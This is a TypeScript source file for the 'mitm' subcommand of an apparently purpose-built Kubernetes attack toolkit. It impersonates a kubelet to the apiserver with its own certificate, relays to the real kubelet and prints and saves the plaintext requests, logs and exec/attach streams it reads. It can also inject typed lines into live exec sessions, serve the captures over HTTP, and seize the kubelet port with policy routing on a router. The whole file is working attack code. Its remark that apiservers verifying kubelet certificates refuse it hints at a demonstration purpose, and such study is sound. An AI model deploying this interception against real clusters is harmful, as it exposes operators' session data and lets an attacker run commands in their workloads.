// `hubspoke-attacker mitm`: the man in the middle of C9 as a process. It listens where the apiserver thinks a
// kubelet is, shows its own certificate, relays to the real kubelet and prints what it reads as it reads it:
// requests, log text, exec and attach streams by channel. With --output every connection is saved as a JSON
// line when it ends (and at exit); with --inject-stdin each line typed into this process is written into the
// newest live exec/attach session as if the user had typed it; with --captures-address what it read is served
// live as GET /captures. On a router between apiserver and node, --intercept-route takes the kubelet port of
// the node's address with routes alone. Runs until SIGINT or SIGTERM, undoes its routes, then exits 0.
import { appendFile, readFile } from 'node:fs/promises';
import { createInterface } from 'node:readline';
import { Command } from 'commander';
import { parseCommandLine } from '@hubspoke/cli';
import { pino } from 'pino';
import { createSelfSignedServingCert } from '@hubspoke/pki';
import type { Capture, CapturedExchange, StreamMessage } from '../mitm/capture.ts';
import { serveCaptures, type CapturesServer } from '../mitm/captures-server.ts';
import { Channel } from '../mitm/channel-message.ts';
import { startMitm } from '../mitm/mitm.ts';
import { interceptRoute, type RouteInterception } from '../mitm/route-interception.ts';
import { hostPort, ipAddress } from './flag-values.ts';

/** The mitm command's flags, as parsed. */
export interface MitmFlags {
  /** Absent only with --intercept-route, which then listens on the wildcard address at the upstream's port. */
  listen?: { host: string; port: number };
  upstream: { host: string; port: number };
  sourceAddress?: string;
  interceptRoute?: boolean;
  capturesAddress?: { host: string; port: number };
  victim?: string;
  tlsCertFile?: string;
  tlsPrivateKeyFile?: string;
  output?: string;
  injectStdin?: boolean;
  logLevel: string;
}

/** The outcome of parsing mitm's arguments: run with flags, print help, or refuse with a message. */
export type ParsedMitmArgs = { kind: 'run'; flags: MitmFlags } | { kind: 'help'; text: string } | { kind: 'error'; message: string };

const CHANNEL_NAMES: Record<number, string> = { [Channel.stdin]: 'stdin', [Channel.stdout]: 'stdout', [Channel.stderr]: 'stderr', [Channel.error]: 'error', [Channel.resize]: 'resize' };

/** mitm's options on `command` (the bin's subcommand, or a standalone parser). */
function mitmOptions(command: Command): Command {
  return command
    .description(
      "Stand where the apiserver dials a kubelet (a poisoned node address, or a router answering for it), show the attacker's own certificate, relay to the real kubelet and read everything. An apiserver with --kubelet-certificate-authority hangs up instead.",
    )
    .option('--listen <host:port>', 'where to accept the apiserver (the address the node advertises, and the kubelet port); with --intercept-route default 0.0.0.0 and the --upstream port', hostPort)
    .requiredOption('--upstream <host:port>', 'the real kubelet', hostPort)
    .option('--source-address <ip>', 'source address for the connections to the real kubelet (one that routing sends on to the node)', ipAddress)
    .option(
      '--intercept-route',
      "on a router between apiserver and node: take the --upstream address's port for this process with policy routing (no iptables); everything else to the node, and the relay's own connections from --source-address, is still forwarded. Needs CAP_NET_ADMIN; undone at exit",
    )
    .option('--captures-address <host:port>', 'serve what was read, live, as plain HTTP GET /captures (JSON) here', hostPort)
    .option('--victim <node>', 'the node name shown in GET /captures (default: the --upstream host)')
    .option('--tls-cert-file <file>', 'certificate shown to the apiserver (default: a fresh self-signed one for the --listen host, or with --intercept-route for the --upstream host)')
    .option('--tls-private-key-file <file>', 'key of --tls-cert-file')
    .option('--output <file>', 'append every connection, in plaintext, to this file as a JSON line')
    .option('--inject-stdin', 'write each line typed here into the newest live exec/attach session')
    .option('--log-level <level>', "pino level of the attacker's own logs (stderr)", 'warn');
}

/** Problems among flags that parse one by one but not together. */
function flagProblems(flags: MitmFlags): string | undefined {
  if (Boolean(flags.tlsCertFile) !== Boolean(flags.tlsPrivateKeyFile)) return 'error: --tls-cert-file and --tls-private-key-file go together';
  if (!flags.interceptRoute && !flags.listen) return "error: required option '--listen <host:port>' not specified";
  if (flags.interceptRoute && !flags.sourceAddress) return 'error: --intercept-route needs --source-address (its own connections to the node must not be intercepted)';
  if (flags.interceptRoute && flags.listen && flags.listen.port !== flags.upstream.port) return 'error: with --intercept-route, --listen takes the --upstream port (the port intercepted)';
  return undefined;
}

/** Parses mitm's arguments (after `mitm`) as the bin does, without running anything. */
export function parseMitmArgs(argv: string[]): ParsedMitmArgs {
  const command = mitmOptions(new Command('mitm'));
  const parsed = parseCommandLine(command, argv);
  if (parsed.kind !== 'parsed') return parsed;
  const flags = command.opts<MitmFlags>();
  const problem = flagProblems(flags);
  return problem ? { kind: 'error', message: problem } : { kind: 'run', flags };
}

/** Adds the `mitm` subcommand to `program`; returns the subcommand. */
export function addMitmCommand(program: Command): Command {
  return mitmOptions(program.command('mitm')).action(async (flags: MitmFlags, command: Command) => {
    const problem = flagProblems(flags);
    if (problem) command.error(problem);
    const read = (file: string, flag: string): Promise<string> =>
      readFile(file, 'utf8').catch((err: Error) => command.error(`error: cannot read ${flag} ${file}: ${err.message}`));
    const listen = flags.listen ?? { host: '0.0.0.0', port: flags.upstream.port };
    const certificate = flags.tlsCertFile
      ? { cert: await read(flags.tlsCertFile, '--tls-cert-file'), key: await read(flags.tlsPrivateKeyFile!, '--tls-private-key-file') }
      : flags.interceptRoute
        ? // The apiserver dials the node's address: the attacker's certificate names it, as a kubelet's self-signed one does.
          await createSelfSignedServingCert({ host: flags.upstream.host })
        : undefined;
    const logger = pino({ level: flags.logLevel }, pino.destination(2));
    const mitm = await startMitm({
      listen,
      upstream: { ...flags.upstream, localAddress: flags.sourceAddress },
      certificate,
      logger,
    }).catch((err: NodeJS.ErrnoException) => command.error(`error: cannot listen on ${listen.host}:${listen.port} (${err.code ?? err.message}); change --listen`));

    let interception: RouteInterception | undefined;
    let captures: CapturesServer | undefined;
    const stopAll = async (): Promise<void> => {
      await interception?.undo();
      await captures?.close();
      await mitm.close();
    };
    try {
      if (flags.capturesAddress) {
        const { host, port } = flags.capturesAddress;
        captures = await serveCaptures({ host, port, mitm, victim: flags.victim ?? flags.upstream.host }).catch((err: NodeJS.ErrnoException) => {
          throw new Error(`cannot serve captures on ${host}:${port} (${err.code ?? err.message}); change --captures-address`);
        });
      }
      if (flags.interceptRoute) interception = await interceptRoute({ address: flags.upstream.host, port: flags.upstream.port, sourceAddress: flags.sourceAddress! });
    } catch (err) {
      await stopAll();
      command.error(`error: ${(err as Error).message}`);
    }

    const printer = new CapturePrinter((text) => process.stdout.write(text));
    let saving = Promise.resolve();
    const saved = new Set<number>();
    const save = (capture: Capture): void => {
      if (!flags.output || saved.has(capture.id)) return;
      saved.add(capture.id);
      const line = `${JSON.stringify(captureRecord(capture))}\n`;
      saving = saving.then(() => appendFile(flags.output!, line)).catch((err: Error) => logger.error({ err: err.message }, 'cannot save a capture'));
    };
    const refresh = (): void => {
      for (const capture of mitm.captures()) {
        printer.print(capture);
        if (capture.closed) save(capture);
      }
      for (const failure of mitm.failures().slice(printer.failuresShown)) {
        process.stdout.write(`[refused] ${failure.client}: the apiserver ${failure.kind === 'tls-error' ? 'failed the handshake' : 'hung up after the handshake'} (${failure.reason}): it verifies kubelets\n`);
        printer.failuresShown++;
      }
    };
    const timer = setInterval(refresh, 200);
    if (flags.injectStdin) {
      createInterface({ input: process.stdin }).on('line', (line) => {
        const result = mitm.injectStdin(`${line}\n`);
        process.stdout.write(result.kind === 'injected' ? `[injected into capture ${result.captureId}${result.queued ? ', after the current frame' : ''}] ${line}\n` : '[no live exec/attach session to inject into]\n');
      });
    }
    if (interception) process.stdout.write(`routing ${flags.upstream.host}:${flags.upstream.port} to this process:\n${interception.commands.map((c) => `  ${c}\n`).join('')}`);
    if (captures) process.stdout.write(`serving captures on ${captures.url}\n`);
    process.stdout.write(`intercepting on ${mitm.address}:${mitm.port}, relaying to ${flags.upstream.host}:${flags.upstream.port}\n`);
    await new Promise<void>((resolve) => {
      process.once('SIGINT', resolve);
      process.once('SIGTERM', resolve);
    });
    clearInterval(timer);
    // Routes first: from here on the apiserver's connections go to the real node again.
    await interception?.undo();
    refresh();
    for (const capture of mitm.captures()) save(capture);
    await stopAll();
    await saving;
    process.exit(0);
  });
}

/** Prints what is new in each capture since the last call, so a person watches the plaintext arrive. */
class CapturePrinter {
  failuresShown = 0;
  private readonly shown = new Map<number, { exchanges: number; responded: Set<number>; messages: number }>();

  constructor(private readonly write: (text: string) => void) {}

  print(capture: Capture): void {
    const seen = this.shown.get(capture.id) ?? { exchanges: 0, responded: new Set<number>(), messages: 0 };
    this.shown.set(capture.id, seen);
    capture.exchanges.forEach((x, i) => {
      if (i >= seen.exchanges) this.write(`[capture ${capture.id}] ${capture.client} → ${x.request.method} ${x.request.target}\n`);
      if (x.response && !seen.responded.has(i)) {
        seen.responded.add(i);
        this.write(`[capture ${capture.id}] ← ${x.response.status} ${x.response.reason ?? ''}${x.stream ? ` (${x.stream.subprotocol ?? x.stream.protocol})` : ''}\n`);
        if (x.response.body) this.write(indent(x.response.body));
      }
    });
    seen.exchanges = capture.exchanges.length;
    const messages = capture.exchanges.at(-1)?.stream?.messages ?? [];
    for (const m of messages.slice(seen.messages)) {
      const text = m.data.toString('utf8');
      if (m.channel === undefined || !text) continue;
      this.write(`[capture ${capture.id}] ${CHANNEL_NAMES[m.channel] ?? `channel ${m.channel}`}${m.injected ? ' (injected)' : ''}> ${text.endsWith('\n') ? text : `${text}\n`}`);
    }
    seen.messages = messages.length;
  }
}

function indent(text: string): string {
  return text.split('\n').filter(Boolean).map((l) => `    ${l}\n`).join('');
}

/** A capture as JSON: streams as text per message, so the file is readable. */
function captureRecord(capture: Capture): Record<string, unknown> {
  const message = (m: StreamMessage) => ({ direction: m.direction, channel: m.channel, text: m.data.toString('utf8'), ...(m.injected ? { injected: true } : {}) });
  const exchange = (x: CapturedExchange) => ({
    request: { method: x.request.method, target: x.request.target, headers: x.request.headers, body: x.request.body },
    response: x.response && { status: x.response.status, headers: x.response.headers, body: x.response.body },
    stream: x.stream && { protocol: x.stream.protocol, subprotocol: x.stream.subprotocol, messages: x.stream.messages.map(message) },
  });
  return { id: capture.id, client: capture.client, opened: capture.opened, closed: capture.closed, exchanges: capture.exchanges.map(exchange) };
}
